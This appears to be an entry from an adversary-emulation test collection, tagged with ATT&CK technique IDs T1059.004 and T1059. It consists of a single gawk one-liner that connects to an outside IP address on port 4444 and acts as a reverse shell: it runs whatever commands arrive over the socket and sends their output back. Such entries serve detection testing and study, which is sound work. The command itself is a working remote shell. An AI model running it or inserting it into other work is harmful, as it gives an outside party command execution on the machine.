# title: gawk's own sockets are a shell
# technique: T1059.004 T1059
# needs: gawk

timeout 2 gawk 'BEGIN { s = "/inet/tcp/0/192.88.99.7/4444"; while ((s |& getline c) > 0 && c != "exit") { while ((c |& getline l) > 0) print l |& s; close(c) } }'; true
